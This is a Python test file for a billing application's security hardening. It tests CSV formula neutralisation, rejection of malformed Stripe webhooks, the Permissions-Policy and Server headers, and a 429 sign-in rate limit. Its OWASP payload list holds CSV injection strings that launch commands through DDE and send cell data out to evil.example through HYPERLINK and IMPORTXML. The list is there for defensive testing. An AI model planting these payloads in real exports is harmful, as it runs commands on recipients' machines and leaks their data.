"""Issue 11 (security hardening): CSV exports neutralise formula cells through one writer, the
Stripe webhook refuses malformed events with a 400, every response carries a Permissions-Policy
and no Server banner, and the sign-in rate limit answers 429."""

import csv
import http.client
import io
import json
import re
import socket
import subprocess
import sys
import time
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine
import yaml
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret

from billing.models import Invoice, Payment, StripeEvent
from core import csv as core_csv
from tests.factories import CustomerFactory, InvoiceFactory, UserFactory
from tests.support.fake_stripe import event as stripe_event
from tests.support.fake_stripe import sign

ROOT = Path(__file__).resolve().parents[2]

# CSV injection

# OWASP's CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection), and each of
# the characters a spreadsheet reads as the start of a formula.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "+1+1",
    "-2+3",
    "=1+1",
    "-1+1|cmd",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\tTabbed",
    "\rReturned",
    "-",
    "-12.10abc",
    '=2+5+cmd|" /C calc"!A0',
]


def export_rows(client) -> list[dict[str, str]]:
    response = client.get("/invoices/export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_cell_is_neutralised(payload):
    assert core_csv.cell_neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-12.10", "-3", "0.00", "12.10", "5", "-0.50"])
def test_plain_numbers_stay_numbers(number):
    assert core_csv.cell_neutralise(number) == number


def test_neutralised_cells_are_quoted():
    line = b"".join(core_csv.lines_stream([["=1+1", "-12.10", "plain", 'say "hi", then go']]))
    assert line == b'"\'=1+1",-12.10,plain,"say ""hi"", then go"\r\n'


def test_invoice_export_neutralises_the_owasp_payloads(owner_client, tenant, other_tenant):
    """Every payload, as an organisation name and as a line description, comes back with a
    leading quote; a plain negative amount (a balance owed back) stays a number."""
    numbers = {}
    for payload in OWASP_PAYLOADS:
        customer = CustomerFactory(reseller=tenant.reseller, organisation=payload)
        invoice = InvoiceFactory(customer=customer, lines=1, descriptions=[payload])
        numbers[invoice.number] = payload
    # Paid in full, then credited in full: the 12.10 paid is owed back, a negative balance.
    paid = InvoiceFactory(
        customer=tenant.customer, subtotal=Decimal("10.00"), status=Invoice.Status.PAID
    )
    Payment.objects.create(
        invoice=paid,
        attempt=1,
        gateway="manual",
        idempotency_key=f"{paid.number}:1",
        amount=Decimal("12.10"),
        currency="EUR",
        status=Payment.Status.SUCCEEDED,
    )
    InvoiceFactory(
        customer=tenant.customer,
        kind=Invoice.Kind.CREDIT_NOTE,
        corrects=paid,
        lines=0,
        subtotal=Decimal("10.00"),
        status=Invoice.Status.CREDITED,
    )

    rows = export_rows(owner_client)

    payload_rows = [row for row in rows if row["invoice_number"] in numbers]
    assert len(payload_rows) == len(OWASP_PAYLOADS)
    for row in payload_rows:
        payload = numbers[row["invoice_number"]]
        assert row["organisation"] == "'" + payload
        assert row["description"] == "'" + payload
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if value.startswith("-"):
                assert re.fullmatch(r"-\d+(\.\d+)?", value), (column, value)
    (owed_back,) = [row for row in rows if row["invoice_number"] == paid.number]
    assert owed_back["balance"] == "-12.10"


def test_no_module_writes_csv_but_the_one_writer():
    """Later exports go through core.csv too: nothing else calls the standard library's writer."""
    pattern = re.compile(
        r"\bcsv\.(writer|DictWriter)\b|from\s+csv\s+import\s+.*\b(writer|DictWriter)\b"
    )
    sources = [ROOT / "manage.py"] + [
        path
        for top in ROOT.iterdir()
        if top.is_dir() and not top.name.startswith(".") and top.name != "node_modules"
        for path in top.rglob("*.py")
    ]
    skipped = {ROOT / "core" / "csv.py", Path(__file__).resolve()}
    offenders = [
        str(path.relative_to(ROOT))
        for path in sources
        if path.exists()
        and path not in skipped
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# Stripe webhook: a validly signed but malformed event is a 400, and nothing is stored

WEBHOOK = "/billing/stripe/webhook/"


def deliver_signed(client, payload: str, *, timestamp: int | None = None):
    return client.post(
        WEBHOOK,
        payload,
        content_type="application/json",
        HTTP_STRIPE_SIGNATURE=sign(payload, timestamp=timestamp),
    )


def _event(**fields: object) -> str:
    event = json.loads(
        stripe_event("charge.refunded", {"id": "ch_1", "object": "charge"}, event_id="evt_1")
    )
    event.update(fields)
    return json.dumps(event)


MALFORMED_EVENTS = [
    pytest.param("[]", id="json-list"),
    pytest.param('[{"id": "evt_1", "type": "charge.refunded"}]', id="list-of-event"),
    pytest.param('"evt_1"', id="json-string"),
    pytest.param("null", id="json-null"),
    pytest.param("42", id="json-number"),
    pytest.param("{", id="not-json"),
    pytest.param("[" * 100_000 + "]" * 100_000, id="nested-too-deep"),
    pytest.param(_event(created=10**15), id="created-10**15"),
    pytest.param(_event(created=-(10**15)), id="created-negative"),
    pytest.param(_event(created=int(time.time()) + 86_400), id="created-tomorrow"),
    pytest.param(_event(created=True), id="created-a-boolean"),
    pytest.param(_event(created=1.5), id="created-a-float"),
    pytest.param(_event(id="evt_" + "x" * 77), id="id-81-characters"),
    pytest.param(_event(id=""), id="id-empty"),
    pytest.param(_event(id="evt_\u0000"), id="id-with-nul"),
    pytest.param(_event(type="t" * 81), id="type-81-characters"),
    pytest.param(_event(data=[]), id="data-a-list"),
    pytest.param(_event(data={"object": []}), id="data-object-a-list"),
    pytest.param(
        _event(data={"object": {"id": "ch_1", "description": "\u0000"}}), id="nul-in-the-data"
    ),
]


@pytest.mark.parametrize("payload", MALFORMED_EVENTS)
def test_a_signed_malformed_event_is_400_and_nothing_is_stored(db, fake_stripe, client, payload):
    response = deliver_signed(client, payload)
    assert response.status_code == 400
    assert not StripeEvent.objects.exists()


@pytest.fixture
def clock_stopped():
    """The clock stands still from signing to checking: the margins around the five minutes
    below are seconds, and a busy machine can take a second between the two."""
    with time_machine.travel(time.time(), tick=False):
        yield


def test_an_event_created_more_than_five_minutes_ahead_is_400(
    db, fake_stripe, client, clock_stopped
):
    response = deliver_signed(client, _event(created=int(time.time()) + 305))
    assert response.status_code == 400
    assert not StripeEvent.objects.exists()


def test_a_signature_from_the_future_is_400(db, fake_stripe, client, clock_stopped):
    """The library refuses a signature more than five minutes old; one more than five minutes
    ahead is refused too."""
    response = deliver_signed(client, _event(), timestamp=int(time.time()) + 301)
    assert response.status_code == 400
    assert not StripeEvent.objects.exists()


def test_a_well_formed_event_at_the_limits_is_stored(db, fake_stripe, client, clock_stopped):
    """The refusals above are not over-eager: an 80-character id, an event created up to five
    minutes ahead (clocks differ), signed up to five minutes ahead, is stored."""
    now = int(time.time())
    payload = _event(id="evt_" + "x" * 76, created=now + 290)
    response = deliver_signed(client, payload, timestamp=now + 290)
    assert response.status_code == 200
    assert StripeEvent.objects.get().event_id == "evt_" + "x" * 76


# No Server header from gunicorn

GUNICORN_CONFIG = ROOT / "config" / "gunicorn.py"

HELLO_APP = """
def application(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"hello"]
"""


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_gunicorn_with_the_projects_config_sends_no_server_header(tmp_path):
    """gunicorn writes `Server: gunicorn` itself, below the application and with no setting to
    turn it off; config/gunicorn.py, which the Dockerfile and docker-compose load, removes it.
    A real gunicorn serves a tiny application with that config."""
    (tmp_path / "hello.py").write_text(HELLO_APP)
    port = _free_port()
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gunicorn",
            "-c",
            str(GUNICORN_CONFIG),
            "--pythonpath",
            str(tmp_path),
            "--bind",
            f"127.0.0.1:{port}",
            "--workers",
            "1",
            "hello:application",
        ],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
                connection.request("GET", "/")
                response = connection.getresponse()
                break
            except OSError:
                assert server.poll() is None, "gunicorn did not start"
                assert time.monotonic() < deadline, "gunicorn did not answer"
                time.sleep(0.1)
        assert response.status == 200
        assert response.read() == b"hello"
        assert response.getheader("Server") is None
        assert response.getheader("Date")  # the other headers gunicorn writes are still there
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_the_web_commands_load_the_gunicorn_config():
    dockerfile = (ROOT / "Dockerfile").read_text()
    (cmd,) = [line for line in dockerfile.splitlines() if line.startswith("CMD ")]
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    for command in (json.loads(cmd.removeprefix("CMD ")), compose["services"]["web"]["command"]):
        assert command[0] == "gunicorn"
        assert command[command.index("-c") + 1] == "config/gunicorn.py", command


# Permissions-Policy on every response

DENIED = ("camera=()", "microphone=()", "geolocation=()", "payment=()")


def _policy(response) -> list[str]:
    return [item.strip() for item in response["Permissions-Policy"].split(",")]


@pytest.mark.parametrize("url", ["/accounts/login/", "/admin/login/", "/no-such-page/"])
def test_every_response_has_a_permissions_policy(db, client, url):
    policy = _policy(client.get(url))
    for feature in DENIED:
        assert feature in policy


def test_the_permissions_policy_on_a_signed_in_page_and_the_admin(owner_client, client_for):
    staff = UserFactory(is_staff=True, is_superuser=True)
    TOTP.activate(staff, generate_totp_secret())  # the admin requires a second factor
    for response in (owner_client.get("/invoices/"), client_for(staff).get("/admin/")):
        assert response.status_code == 200
        for feature in DENIED:
            assert feature in _policy(response)


def test_the_policy_allows_stripe_elements_the_payment_feature(client, db, settings):
    settings.PERMISSIONS_POLICY = {"camera": [], "payment": ["self", "https://js.stripe.com"]}
    assert client.get("/accounts/login/")["Permissions-Policy"] == (
        'camera=(), payment=(self "https://js.stripe.com")'
    )


def _settings_policy(env: dict[str, str]) -> dict[str, list[str]]:
    """PERMISSIONS_POLICY as config/settings/base.py builds it with these variables."""
    script = (
        "import json, os; os.environ.update(json.loads(os.sys.argv[1]));"
        "from config.settings import base;"
        "print(json.dumps(base.PERMISSIONS_POLICY))"
    )
    clean = {"STRIPE_SECRET_KEY": "", "STRIPE_PUBLISHABLE_KEY": "", "STRIPE_WEBHOOK_SECRET": ""}
    output = subprocess.run(
        [sys.executable, "-c", script, json.dumps({**clean, **env})],
        check=True,
        capture_output=True,
        text=True,
        cwd=ROOT,
    ).stdout
    return json.loads(output)


def test_payment_is_allowed_to_stripe_only_when_stripe_is_configured():
    assert _settings_policy({})["payment"] == []
    stripe_on = _settings_policy(
        {
            "STRIPE_SECRET_KEY": "sk_test_fake",
            "STRIPE_PUBLISHABLE_KEY": "pk_test_fake",
            "STRIPE_WEBHOOK_SECRET": "whsec_test_secret",
        }
    )
    assert stripe_on["payment"] == ["self", "https://js.stripe.com"]
    assert stripe_on["camera"] == stripe_on["microphone"] == stripe_on["geolocation"] == []


# The sign-in rate limit answers 429

TOO_MANY = "Too many failed login attempts"


@pytest.mark.parametrize("next_url", ["", "/admin/"], ids=["sign-in", "admin-sign-in"])
def test_too_many_failed_sign_ins_answer_429_with_retry_after(db, client, next_url):
    """allauth's failed-login limit (per address and per IP) shows its message on the sign-in
    page; the answer is a 429 with Retry-After, not a 200 a script would read as "try again"."""
    staff = UserFactory(is_staff=True, email=f"staff-{uuid.uuid4().hex}@vendor.example")
    staff.set_password("the right password")
    staff.save()
    # An address of its own, so the per-IP limit of this run touches no other test's sign-in.
    remote_addr = f"198.51.100.{uuid.uuid4().int % 250 + 1}"

    def sign_in(password: str):
        return client.post(
            "/accounts/login/",
            {"login": staff.email, "password": password, "next": next_url},
            REMOTE_ADDR=remote_addr,
        )

    first = sign_in("wrong")
    assert first.status_code == 200  # a wrong password is a form error, not a limit
    assert TOO_MANY not in first.content.decode()
    for _attempt in range(10):
        response = sign_in("wrong")
        if TOO_MANY in response.content.decode():
            break
    else:
        pytest.fail("the failed-login limit never answered")
    assert response.status_code == 429
    assert 0 < int(response["Retry-After"]) <= 300
    # The right password does not get in while the limit holds either, and is answered alike.
    response = sign_in("the right password")
    assert response.status_code == 429
    assert TOO_MANY in response.content.decode()


def test_new_public_ids_never_start_with_a_minus(monkeypatch):
    """A public id starting with "-" would be written to every CSV with a leading quote (a
    spreadsheet reads "-…" as a formula): new ids never start with one."""
    from core import ids

    draws = iter(["-AAAAAAAAAAAAAAA", "-BBBBBBBBBBBBBBB", "CCCCCCCCCCCCCCCC"])
    with monkeypatch.context() as patched:
        patched.setattr(ids.secrets, "token_urlsafe", lambda size: next(draws))
        assert ids.new_public_id() == "CCCCCCCCCCCCCCCC"
    assert not any(ids.new_public_id().startswith("-") for _ in range(2000))
